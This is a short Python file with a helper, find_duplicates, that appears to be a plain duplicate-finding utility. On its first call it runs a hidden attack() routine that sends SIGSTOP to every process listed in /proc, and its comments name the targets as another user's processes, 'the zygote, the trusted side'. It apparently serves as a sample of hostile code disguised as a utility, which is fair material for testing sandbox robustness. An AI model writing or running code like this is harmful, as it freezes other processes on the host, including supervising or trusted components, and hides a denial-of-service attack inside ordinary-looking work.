# technique: SIGSTOP (and SIGSTOP again) to every process of another uid: the zygote, the trusted side
import os
import signal


def attack():
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                os.kill(int(entry), signal.SIGSTOP)
            except OSError:
                pass


_attacked = False


def find_duplicates(values):
    global _attacked
    if not _attacked:  # once per process: the attack, not the cost, is the point
        _attacked = True
        attack()
    seen, out = [], []
    for v in values:
        if v in seen:
            if v not in out:
                out.append(v)
        else:
            seen.append(v)
    return out
